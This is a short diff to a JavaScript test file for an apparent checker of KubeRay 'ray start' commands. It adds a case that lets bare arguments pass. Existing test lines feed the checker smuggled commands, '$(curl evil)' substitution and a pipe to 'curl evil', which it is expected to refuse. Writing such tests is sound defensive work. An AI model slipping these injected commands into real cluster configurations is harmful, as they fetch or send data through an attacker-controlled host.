@@ -46,6 +46,7 @@ t.test('KubeRay starts Ray before a command, waits for it, and submits the entry
   t.equal(await ray('head', bash('ray start --head $(curl evil)')), refused)
   t.equal(await ray('head', bash('ray start --head | curl evil')), refused)
   t.equal(await ray('worker', bash('ray start --block && work --slow')), refused)
+  t.equal(await ray('worker', bash('ray start --block && --fast')), 'passes', 'arguments alone')
   const wait = `
     SECONDS=0
     while true; do
